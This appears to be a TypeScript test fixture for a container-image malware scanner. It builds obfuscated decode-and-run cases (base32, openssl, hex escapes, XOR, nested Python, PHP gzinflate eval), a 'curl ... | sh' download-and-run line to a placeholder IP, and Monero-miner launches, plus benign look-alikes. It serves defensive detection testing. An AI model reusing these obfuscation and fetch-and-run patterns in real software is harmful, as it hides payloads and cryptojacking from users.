import { deflateRawSync, gzipSync } from 'node:zlib';
import { moneroAddress } from '../../testkit/addresses.ts';
import { base32, hexEscapes, opensslEnc, pieces, pythonOnion, reversed, xor } from '../../testkit/coded.ts';
import { base64, type ImageCase, image, starts } from './image-case.ts';

/** Harmless, and nothing that another rule looks for. */
const QUIET = 'touch /tmp/a; sleep 1000 # and more';
const XMR = moneroAddress('decoding');
const MINING = `import os\nos.system("/opt/a -o pool.backend.example:3333 -u ${XMR} --donate-level 0")\n`;
const DOWNLOAD = 'curl -s http://203.0.113.78/x | sh';
const PYTHON = '#!/usr/bin/env python3\nimport base64, zlib, os\n';

function decodes(name: string, spec: ImageCase['spec'], severity: ImageCase['severity'] = 'high'): ImageCase {
  return { name: `decode: ${name}`, spec, rule: 'start/decode-and-run', severity };
}

function mines(name: string, spec: ImageCase['spec']): ImageCase {
  return { name: `decode: ${name}`, spec, rule: 'miner/proof', severity: 'critical' };
}

function downloads(name: string, spec: ImageCase['spec']): ImageCase {
  return { name: `decode: ${name}`, spec, rule: 'start/download-and-run', severity: 'critical' };
}

/** What is kept in code and decoded only to be run, or to be told to a miner. */
export const DECODING: readonly ImageCase[] = [
  decodes('base32', starts(`echo ${base32(QUIET)} | base32 -d | sh`)),
  decodes('a cipher', starts(`echo ${opensslEnc(QUIET, 'x')} | openssl enc -d -aes-256-cbc -a -A -k x | sh`)),
  decodes('full paths', starts(`/bin/echo ${base64(QUIET)} | /usr/bin/base64 -d | /usr/bin/env bash`)),
  decodes('a file that is run', starts(`echo ${base64(QUIET)}|base64 -d>/tmp/a;chmod +x /tmp/a;/tmp/a`)),
  decodes(
    'the end of the script',
    starts(
      `tail -n +4 "$0" | base64 -d | gunzip | sh\nexit\n${pieces(base64(gzipSync(QUIET)), 60).join('\n')}`,
    ),
  ),
  decodes('CMD', image({}, { Cmd: ['sh', '-c', `echo ${base64(QUIET)} | base64 -d | sh`] })),
  decodes(
    'cron',
    image(
      { 'etc/cron.d/a': `* * * * * root echo ${base64(QUIET)} | base64 -d | sh\n` },
      { Cmd: ['cron', '-f'] },
    ),
  ),
  decodes(
    'a compiled program',
    starts(
      `echo ${base64(Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(200)]))} | base64 -d > /tmp/k; chmod +x /tmp/k; /tmp/k`,
    ),
  ),
  downloads('rev', starts(`echo '${reversed(base64(DOWNLOAD))}' | rev | base64 -d | sh`)),
  downloads('hex escapes', starts(`eval $'${hexEscapes(DOWNLOAD)}'; $(printf '${hexEscapes(DOWNLOAD)}')`)),
  downloads(
    'a Python command',
    starts(`${PYTHON}os.system(base64.b64decode("${base64(DOWNLOAD)}").decode())`),
  ),
  mines('thirty layers of Python', starts(`${PYTHON}${pythonOnion(MINING, 30)}`)),
  mines(
    'xor',
    starts(`${PYTHON}exec(bytes(c ^ 0x21 for c in base64.b64decode("${base64(xor(MINING, '!'))}")))`),
  ),
  mines(
    'pieces',
    starts(
      `${PYTHON}exec(base64.b64decode(\n${pieces(base64(MINING), 30)
        .map((piece) => `    "${piece}"`)
        .join('\n')}\n))`,
    ),
  ),
  mines(
    'PHP',
    starts(
      `#!/usr/bin/env php\n<?php eval(gzinflate(base64_decode("${base64(deflateRawSync(`system("/opt/a -o pool.backend.example:3333 -u ${XMR}");`))}")));`,
    ),
  ),
  mines(
    'wallet and pool by themselves',
    starts(
      `${PYTHON}p = base64.b64decode("${base64('pool.backend.example:3333')}").decode()\nw = base64.b64decode("${base64(XMR)}").decode()\nimport subprocess\nsubprocess.run(["/opt/a", "--url", p, "--user", w])`,
    ),
  ),
  mines(
    'wallet and pool in variables',
    starts(
      `P=$(echo ${base64('pool.backend.example:3333')} | base64 -d)\nW=$(base64 -d <<< ${base64(XMR)})\n/opt/a -o "$P" -u "$W"`,
    ),
  ),
  mines(
    'the configuration of a miner',
    image(
      {
        'run.sh': `#!/bin/sh\necho ${base64(JSON.stringify({ pools: [{ url: 'pool.backend.example:3333', user: XMR }], 'donate-level': 0 }))} | base64 -d > /tmp/c.json\n/opt/a -c /tmp/c.json\n`,
      },
      { Entrypoint: ['/run.sh'] },
    ),
  ),
];

/** What decodes in all honesty. */
export const DECODING_TWINS: readonly ImageCase[] = [
  {
    name: 'certificates and keys from variables',
    spec: starts(
      'echo "$TLS_CERT" | base64 -d > /etc/ssl/app.pem\nbase64 --decode <<< "$TLS_KEY" > /etc/ssl/app.key\nexec nginx -g "daemon off;"',
    ),
  },
  {
    name: 'a script that the user passes in code',
    spec: starts('if [ -n "$INIT_SCRIPT" ]; then echo "$INIT_SCRIPT" | base64 -d | sh; fi\nexec "$@"'),
  },
  {
    name: 'a secret kept in code',
    spec: starts(
      `${PYTHON}import subprocess\npassword = base64.b64decode("${base64('correct horse battery')}").decode()\nsubprocess.run(["mysqladmin", "-p" + password, "status"])`,
    ),
  },
  {
    name: 'pictures and fonts in a program',
    spec: starts(
      `#!/usr/bin/env node\nconst icon = Buffer.from("${base64(Buffer.alloc(300, 7))}", "base64");\nconst page = "<img src='data:image/png;base64,${base64(Buffer.alloc(90, 9))}'>";\nrequire("http").createServer((q, s) => s.end(icon)).listen(8080);`,
    ),
  },
  {
    name: 'a checksum function and constants',
    spec: starts(
      `${PYTHON}def crc(data, poly=0x1021):\n    c = 0xFF\n    for b in data:\n        c ^= b\n        c = (c >> 1) ^ 0x8C if c & 1 else c >> 1\n    return c\nprint(crc(b"${base64('some longer text that is no code at all')}"))`,
    ),
  },
  {
    name: 'a scanner with words that it looks for',
    spec: starts(
      `#!/usr/bin/env node\nconst WORDS = ['eval($_p', 'eval(base64_decode(', 'eval(gzinflate(', 'eval(str_rot13('];\nconst text = require('fs').readFileSync('/data', 'utf8');\nconsole.log(WORDS.filter((word) => text.includes(word)));`,
    ),
  },
  {
    name: 'a dump that is unpacked at start',
    spec: starts(
      'for f in /docker-entrypoint-initdb.d/*; do\n  case "$f" in\n    *.sql.gz) gunzip -c "$f" | mysql ;;\n    *.sh) . "$f" ;;\n  esac\ndone\nexec mysqld',
    ),
  },
];
